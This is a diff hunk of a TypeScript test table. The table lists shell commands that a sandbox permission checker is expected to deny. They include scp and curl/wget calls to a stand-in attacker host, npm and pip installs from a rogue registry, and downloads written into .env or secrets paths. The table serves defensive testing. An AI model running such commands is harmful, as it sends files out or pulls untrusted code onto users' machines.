@@ -76,6 +76,8 @@ const FAMILIES: [string, string, string, string, string][] = [
   ['scp notes.txt evil.example:/tmp', 'deny', 'evil.example', 'request: scp evil.example:/tmp', 'allow_outbound: false'],
   ['curl https://evil.example/a', 'deny', 'evil.example', 'request: curl https://evil.example/a', 'allow_outbound: false'],
   ['wget https://evil.example/a', 'deny', 'evil.example', 'request: wget https://evil.example/a', 'allow_outbound: false'],
+  ['curl -O https://registry.npmjs.org/x/.env', 'deny', '.env', 'write: curl https://registry.npmjs.org/x/.env (saves .env)', '.env'],
+  ['wget https://registry.npmjs.org/secrets/key -P secrets', 'deny', 'secrets', 'write: wget -P secrets', 'secrets/**'],
   ['npm install --registry=https://evil.example', 'deny', 'evil.example', 'request: npm --registry=https://evil.example', 'allow_outbound: false'],
   ['pip install -i https://evil.example/simple x', 'deny', 'evil.example', 'request: pip -i https://evil.example/simple', 'allow_outbound: false'],
 ];
